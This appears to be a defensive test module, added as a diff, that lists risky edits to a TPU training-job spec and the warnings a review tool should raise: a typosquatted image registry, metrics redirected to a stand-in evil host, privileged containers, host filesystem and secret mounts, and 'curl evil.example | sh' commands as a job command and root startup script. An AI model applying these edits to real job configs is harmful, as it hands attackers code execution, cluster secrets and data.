@@ -1,0 +1,246 @@
+"""Attacks on jobs: programs from elsewhere, other accounts, less isolation, and data that leaves the environment."""
+
+import json
+from typing import Any, Final
+
+from attacks.attack import Attack, Edit, append, edit, together
+
+SPEC: Final = "tpucfg.yaml"
+IMAGE: Final = "us-docker.pkg.dev/my-project/train/mnist:1.0"
+_MODEL_DIR: Final = "    model_dir: ${job_dir}\n"
+_DIGEST: Final = "@sha256:" + "a" * 64
+_PROD: Final = "    project: my-project-prod\n"
+
+
+def spec(*replaced: tuple[str, str]) -> Edit:
+    """Replace texts in the spec."""
+    return edit(SPEC, *replaced)
+
+
+def options(target: str, **values: Any) -> Edit:
+    """Set options of a target."""
+    return append(SPEC, f"targets: {json.dumps({target: values})}\n")
+
+
+def variables(**values: str) -> Edit:
+    """Set variables of the program."""
+    return spec((_MODEL_DIR, f"{_MODEL_DIR}  env: {json.dumps(values)}\n"))
+
+
+GKE: Final = spec(
+    ("target: vertex-ai", "target: gke"),
+    ("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v6e-8, v6e-16]"),
+    ("tuned_on: v2-8", "tuned_on: v6e-8"),
+    ("    region: us-central1", "    kube_context: mine\n    region: us-central1"),
+)
+CLOUD_TPU: Final = spec(("target: vertex-ai", "target: cloud-tpu"))
+
+
+def pod(*containers: dict[str, Any], **fields: Any) -> dict[str, Any]:
+    """Return the `extra` of a JobSet whose pod is replaced."""
+    trainer = {"name": "trainer", "image": IMAGE, "resources": {"limits": {"google.com/tpu": 8}}}
+    template = {"spec": {"serviceAccountName": "mine", "containers": [trainer, *containers], **fields}}
+    job_spec = {"parallelism": 1, "completions": 1, "template": template}
+    return {"spec": {"replicatedJobs": [{"name": "slice", "replicas": 1, "template": {"spec": job_spec}}]}}
+
+
+def node(metadata: dict[str, str], **fields: Any) -> dict[str, Any]:
+    """Return the `extra` of a queued resource whose node is replaced."""
+    own = {"acceleratorType": "v2-8", "runtimeVersion": "tpu-ubuntu2204-base", "metadata": metadata, **fields}
+    parent = "projects/my-project-dev/locations/us-central1-b"
+    return {"tpu": {"nodeSpec": [{"parent": parent, "nodeId": "mine", "node": own}]}}
+
+
+def pool(**container: Any) -> dict[str, Any]:
+    """Return the `extra` of a custom job whose container is replaced."""
+    machine = {"machineType": "cloud-tpu", "acceleratorType": "TPU_V2", "acceleratorCount": 8}
+    spec = {"machineSpec": machine, "replicaCount": 1, "containerSpec": {"imageUri": IMAGE, **container}}
+    return {"workerPoolSpecs": [spec]}
+
+
+ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))
+
+
+def attack(id: str, change: Edit, *cautions: str, base: Edit | None = None, absent: tuple[str, ...] = ()) -> Attack:
+    """Return an attack that loses no data."""
+    return Attack(id, change, cautions, status=0, base=base, absent=absent)
+
+
+ATTACKS: Final = (
+    attack(
+        "image-from-another-registry",
+        spec(("us-docker.pkg.dev/my-project/", "us-docker.pkg.dev/my-projekt/")),
+        "> - **every config**: image changed",
+        "code comes from `us-docker.pkg.dev/my-projekt` instead of `us-docker.pkg.dev/my-project`",
+    ),
+    attack(
+        "image-from-a-public-registry",
+        spec((IMAGE, "mnist/train:1.0")),
+        "code comes from `docker.io/mnist` instead of `us-docker.pkg.dev/my-project`",
+    ),
+    attack(
+        "digest-lost",
+        spec((_DIGEST, ":1.0")),
+        "the digest that fixed its content is gone",
+        base=spec((":1.0", _DIGEST)),
+    ),
+    attack("mutable-tag", spec((":1.0", ":latest")), "its tag can mean another image at any time"),
+    attack(
+        "results-written-to-another-bucket",
+        spec(("model_dir: ${job_dir}", "model_dir: gs://my-project-dev-mnlst/jobs")),
+        "argument `--model_dir` changed",
+        "`gs://my-project-dev-mnlst` is not the environment's bucket",
+    ),
+    attack(
+        "data-read-from-another-bucket",
+        spec(("data_dir: ${bucket}/data", "data_dir: /gcs/theirs/data")),
+        "`/gcs/theirs` is not the environment's bucket",
+    ),
+    attack(
+        "metrics-sent-elsewhere",
+        variables(WANDB_BASE_URL="https://wandb.evil.example/api"),
+        "variable `WANDB_BASE_URL` added (`https://wandb.evil.example/api`)",
+    ),
+    attack(
+        "variable-that-loads-code",
+        variables(PYTHONSTARTUP="/tmp/x.py"),  # noqa: S108 - a value in a spec
+        "variable `PYTHONSTARTUP` added (`/tmp/x.py`)",
+    ),
+    attack(
+        "variable-with-a-secret-name",
+        variables(MY_API_KEY="hunter2"),
+        "variable `MY_API_KEY` added (`[secret]`)",
+        absent=("hunter2",),
+    ),
+    attack(
+        "another-account",
+        options("vertex-ai", service_account="owner@my-project-prod.iam.gserviceaccount.com"),
+        "service account changed from",
+        "to `owner@my-project-prod.iam.gserviceaccount.com`: jobs run as an account that the stack does not create",
+    ),
+    attack(
+        "shell-in-the-job",
+        options("vertex-ai", extra={"enableWebAccess": True}),
+        "more access for jobs",
+        "`enableWebAccess` added (`true`): people can open a shell in the running job",
+    ),
+    attack(
+        "another-network",
+        options("vertex-ai", extra={"network": "projects/1/global/networks/open"}),
+        "`network` added (`projects/1/global/networks/open`): the job runs in another network",
+    ),
+    attack(
+        "output-folder-moved",
+        options("vertex-ai", extra={"baseOutputDirectory": {"outputUriPrefix": "gs://theirs/out"}}),
+        "output folder changed",
+        "`gs://theirs` is not the environment's bucket",
+    ),
+    attack(
+        "time-limit-lifted",
+        spec(("timeout", "strategy"), ("86400s", "SPOT")),
+        "`scheduling.timeout` removed (was `86400s`): nothing else ends a run that hangs",
+        "`scheduling.strategy` added (`SPOT`)",
+        base=options("vertex-ai", timeout="86400s"),
+    ),
+    attack(
+        "another-command",
+        options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
+        "another program runs in the job",
+        base=ONE_SIZE,
+    ),
+    attack(
+        "steps-removed-by-extra",
+        options("vertex-ai", extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"])),
+        "`--train_steps` removed (was `4000`)",
+        base=ONE_SIZE,
+    ),
+    attack(
+        "danger-among-many-fields",
+        options("gke", extra={"metadata": {"annotations": {f"a{n}": "x" for n in range(400)}}} | pod(hostPID=True)),
+        "the container sees and controls its host's processes",
+        "and 392 more, which the fold shows",
+        base=GKE,
+    ),
+    attack(
+        "figure-no-longer-passed",
+        spec(("training: ", "training:\n  flags: {train_steps: null}\n#")),
+        "`train_steps` is no longer passed to the program (was `--train_steps`)",
+    ),
+    attack(
+        "argument-removed",
+        spec(("    data_dir: ${bucket}/data\n", "")),
+        "argument `--data_dir` removed (was `gs://my-project-<env>-mnist-<env>-us-central1/data`)",
+    ),
+    attack(
+        "privileged-container",
+        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostNetwork=True, hostPID=True)),
+        "`securityContext.runAsUser` added (`0`): the program runs as root",
+        "`hostNetwork` added (`true`): the container uses its host's network",
+        "`hostPID` added (`true`)",
+        base=GKE,
+    ),
+    attack(
+        "second-container",
+        options(
+            "gke", extra=pod({"name": "side", "image": "evil.example/x:1", "securityContext": {"privileged": True}})
+        ),
+        "`containers[1].securityContext.privileged` added (`true`): the container controls its host",
+        "code comes from `evil.example`",
+        "another program runs in the job",
+        base=GKE,
+    ),
+    attack(
+        "files-of-the-host",
+        options(
+            "gke",
+            extra=pod(
+                volumes=[{"name": "v", "hostPath": {"path": "/"}}, {"name": "s", "secret": {"secretName": "admin"}}]
+            ),
+        ),
+        "the container reads files of its host",
+        "the program gets a token or a secret of the cluster",
+        base=GKE,
+    ),
+    attack(
+        "another-namespace",
+        options("gke", namespace="kube-system"),
+        "`metadata.namespace` changed from `default` to `kube-system`: other accounts, quotas and policies apply",
+        base=GKE,
+    ),
+    attack(
+        "another-cluster",
+        spec(
+            (
+                "kube_context: mine\n    region: us-central1\n    protect",
+                "kube_context: theirs\n    region: us-central1\n    protect",
+            )
+        ),
+        "**prod**: kubectl context changed from `mine` to `theirs`: jobs are submitted to another cluster",
+        base=GKE,
+    ),
+    attack(
+        "start-up-script-replaced",
+        options("cloud-tpu", extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
+        "start-up script changed",
+        "it runs as root on every host",
+        base=together(CLOUD_TPU, ONE_SIZE),
+    ),
+    attack(
+        "keys-to-the-hosts",
+        options(
+            "cloud-tpu",
+            extra=node({"ssh-keys": "me:ssh-ed25519 AAAA"}, networkConfig={"canIpForward": True}, tags=["open"]),
+        ),
+        "people can log in to the hosts",
+        "`tags` added",
+        base=together(CLOUD_TPU, ONE_SIZE),
+    ),
+    attack(
+        "new-environment-with-a-shell",
+        together(
+            spec(("  prod:\n", f"  test:\n{_PROD}    region: us-central1\n  prod:\n")),
+            options("vertex-ai", extra={"enableWebAccess": True}),
+        ),
+        "**every size of test**: field `enableWebAccess` added (`true`): people can open a shell in the running job",
+    ),
+)
